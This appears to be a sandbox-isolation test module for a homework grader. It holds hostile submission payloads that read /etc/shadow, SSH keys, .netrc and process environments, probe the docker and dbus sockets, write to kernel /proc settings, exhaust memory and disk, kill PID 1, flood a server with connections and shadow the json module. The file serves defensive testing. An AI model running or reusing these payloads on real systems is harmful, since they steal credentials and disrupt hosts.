"""Submissions that attack the sandbox itself, and the canaries they aim at.

Each attack runs when the student's client module is imported (so in the bot and in the
checks runner), writes what it found into `REPORT`, and the bot appends `REPORT` to its
/models reply, which the grader records: a canary that shows up there, or anywhere in the
results, was reachable. Every bomb caps itself (bytes, processes, seconds).
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from homework_cases import REFERENCE, Case
from homework_cases.hostile import inject, models_reply

CLIENT = "openrouter_client.py"
BOT_TOP = 'to .env).\n"""\n'  # the end of bot.py's docstring
SHOW = models_reply('"REPORT: " + __import__("openrouter_client").REPORT')

SNOOP = '''
import glob as _glob, os as _os, socket as _socket
_found = []
def _read(_path):
    try:
        with open(_path, "rb") as _file:
            _found.append(_path + "=" + _file.read(200).decode("utf-8", "replace"))
    except OSError:
        pass
for _path in {files!r}:
    _read(_path)
for _pattern in {patterns!r}:
    for _path in _glob.glob(_pattern, recursive=True)[:50]:
        _read(_path)
for _pid in _os.listdir("/proc") if _os.path.isdir("/proc") else []:
    if _pid.isdigit():
        _read("/proc/" + _pid + "/environ")
        _read("/proc/" + _pid + "/cmdline")
_found.append("ENV=" + " ".join(f"{{k}}={{v}}" for k, v in _os.environ.items()))
for _address in {sockets!r}:
    try:
        _sock = _socket.socket(_socket.AF_UNIX)
        _sock.settimeout(1)
        _sock.connect(_address)
        _sock.sendall(b"student was here")
        _found.append("CONNECTED " + repr(_address))
    except OSError as _error:
        _found.append("socket refused " + type(_error).__name__)
REPORT = " | ".join(_found)
'''

KERNEL = '''
import os as _os
_found = []
for _path, _data in (("/proc/sys/vm/drop_caches", "1"), ("/proc/sys/kernel/hostname", "pwned"),
                     ("/sys/kernel/mm/transparent_hugepage/enabled", "never"),
                     ("/proc/sysrq-trigger", "h")):
    try:
        with open(_path, "w") as _file:
            _file.write(_data)
        _found.append("WROTE " + _path)
    except OSError as _error:
        _found.append("no " + _path + " " + type(_error).__name__)
for _path in ("/etc/shadow", "/root/.bashrc", "/run", "/sys", "/var/run/docker.sock"):
    _found.append(_path + (" EXISTS" if _os.path.exists(_path) else " absent"))
_found.append("uid=%d euid=%d" % (_os.getuid(), _os.geteuid()))
REPORT = " | ".join(_found)
'''

MEMORY = '''
import os as _os, time as _time
_children = []
for _ in range(2):
    _pid = _os.fork()
    if _pid == 0:
        try:
            _block = b"x" * (700 * 1024 * 1024)  # written, so really resident
            _time.sleep(4)  # hold it while the others take theirs
        finally:
            _os._exit(0)
    _children.append(_pid)
try:
    _mine = b"x" * (700 * 1024 * 1024)  # written, so really resident
    _time.sleep(4)
    _held = 1
except MemoryError:
    _held = 0
for _pid in _children:  # a child that ended with exit status 0 held its 700 MB to the end
    _held += _os.waitpid(_pid, 0)[1] == 0
REPORT = "%d of 3 held 700 MB" % _held
'''

DISK = '''
import os as _os, tempfile as _tempfile
_written = 0
_chunk = b"x" * (1024 * 1024)
try:
    for _n in range(240):  # 240 MB at most, in files of 16 MB (under the per-file limit)
        # Files of this process only: the runner and the bot both run this, at the same time.
        _name = "fill%d-%d" % (_os.getpid(), _n // 16)
        with open(_os.path.join(_tempfile.gettempdir(), _name), "ab") as _f:
            _f.write(_chunk)
        _written += 1
    REPORT = "wrote %d MB" % _written
except OSError as _error:
    REPORT = "wrote %d MB then %s" % (_written, type(_error).__name__)
for _n in range(16):  # make room again, so that the bot can start and show the report
    try:
        _os.remove(_os.path.join(_tempfile.gettempdir(), "fill%d-%d" % (_os.getpid(), _n)))
    except OSError:
        pass
'''

KILL_INIT = '''
import os as _os, signal as _signal
for _sig in (_signal.SIGINT, _signal.SIGTERM, _signal.SIGKILL):
    try:
        _os.kill(1, _sig)
    except OSError:
        pass
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except OSError:
    pass
_os.kill(-1, _signal.SIGKILL)  # everything this user may signal, ourselves included
'''

FAKE_FLOOD = '''
import socket as _socket, os as _os, ssl as _ssl
import requests as _requests
# Sandboxed, OpenRouter is at its real address (the fake, over TLS); else the variable says.
_base = _os.environ.get("OPENROUTER_BASE_URL") or "https://openrouter.ai/api/v1"
_host, _, _port = _base.split("//")[1].split("/")[0].partition(":")
_tls = _base.startswith("https")
_port = int(_port or (443 if _tls else 80))
_context = _ssl.create_default_context()
def _connect(timeout):
    _plain = _socket.create_connection((_host, _port), timeout=timeout)
    return _context.wrap_socket(_plain, server_hostname=_host) if _tls else _plain
_found = []
for _path in ("/_fake/clear", "/_fake/fault", "/_fake/settings"):
    try:
        _answer = _requests.post(_base.rsplit("/api/v1", 1)[0] + _path, json={}, timeout=2)
        _found.append(_path + " " + str(_answer.status_code))
    except Exception as _error:
        _found.append(_path + " " + type(_error).__name__)
try:
    with _connect(5) as _s:
        _s.sendall(b"POST /api/v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\n"
                   b"Content-Length: 314572800\\r\\nContent-Type: application/json\\r\\n\\r\\n")
        _found.append("answer: " + _s.recv(100).decode("ascii", "replace").split("\\r")[0])
        for _ in range(300):  # 300 MB, if the fake keeps reading
            _s.sendall(b"x" * (1024 * 1024))
except OSError as _error:
    _found.append("body cut: " + type(_error).__name__)
_held = []
for _ in range(256):
    try:
        _held.append(_connect(2))
    except OSError:
        break
for _s in _held:
    try:
        _s.sendall(b"GET /api/v1/models HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
    except OSError:
        pass
_found.append("held %d connections" % len(_held))
for _s in _held:
    _s.close()
REPORT = " | ".join(_found)
'''


# A json.py of the student's: run in place of the standard one (as `python bot.py` on a laptop
# would), it must already be under the limits; then it hands over to the real json.
SHADOW_FILE = ("json.py", """import builtins, resource, sys
builtins.SHADOWED = "json.py ran under RLIMIT_AS=%d" % resource.getrlimit(resource.RLIMIT_AS)[0]
_first = sys.path.pop(0)
del sys.modules["json"]
import json as _real
sys.path.insert(0, _first)
sys.modules["json"] = _real
globals().update(vars(_real))
""")
SHADOW = """
import builtins as _builtins
REPORT = getattr(_builtins, "SHADOWED", "the standard json")
"""


@dataclass(frozen=True)
class Canaries:
    """Things no submission may reach: a file in the instructor's home, a classmate's file,
    an environment variable, Unix sockets of the host (a path and an abstract name)."""

    home_file: Path
    classmate_file: Path
    env_value: str
    socket_path: Path
    abstract: str

    def values(self) -> list[str]:
        """The secret texts: none may appear in any observation or report."""
        return [self.home_file.read_text("utf-8"), self.classmate_file.read_text("utf-8"),
                self.env_value]


def snoop(canaries: Canaries, submissions: Path) -> str:
    """The snooping code, aimed at the canaries' real paths (as a student who guessed them)."""
    return SNOOP.format(
        files=[str(canaries.home_file), str(canaries.classmate_file), "/etc/shadow",
               str(Path.home() / ".netrc"), str(Path.home() / ".ssh" / "id_ed25519")],
        patterns=[f"{submissions}/**/*.txt", "/tmp/homework-grading-*/*/work/*.txt",
                  "/tmp/**/classmate*.txt", "/home/*/.netrc", "/root/.ssh/*"],
        sockets=[str(canaries.socket_path), "\0" + canaries.abstract,
                 "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/tmp/.X11-unix/X0"])


def cases(canaries: Canaries, submissions: Path) -> tuple[Case, ...]:
    """The attacks, each on the reference (100 points): a kill must cost only its author."""
    return (
        Case("snoop", (inject(CLIENT, snoop(canaries, submissions)), SHOW), 0),
        Case("kernel", (inject(CLIENT, KERNEL), SHOW), 0),
        Case("memory", (inject(CLIENT, MEMORY), SHOW), 0),
        Case("disk", (inject(CLIENT, DISK), SHOW), 0),
        Case("kill_init", (*REFERENCE, ("bot.py", BOT_TOP, BOT_TOP + KILL_INIT.strip() + "\n")),
             78),  # everything but the bot's 22 points
        Case("fake_flood", (inject(CLIENT, FAKE_FLOOD), SHOW), 0),
        Case("shadow", (inject(CLIENT, SHADOW), SHOW), 0),  # plus SHADOW_FILE
    )
